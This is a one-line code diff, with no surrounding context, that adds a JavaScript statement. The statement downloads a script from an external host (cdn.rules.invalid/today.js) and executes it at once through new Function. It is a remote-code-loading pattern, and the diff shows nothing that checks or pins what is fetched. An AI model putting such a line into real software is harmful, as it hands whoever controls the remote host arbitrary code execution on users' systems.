@@ -1,0 +1,1 @@
+new Function(await (await fetch("https://cdn.rules.invalid/today.js")).text())();
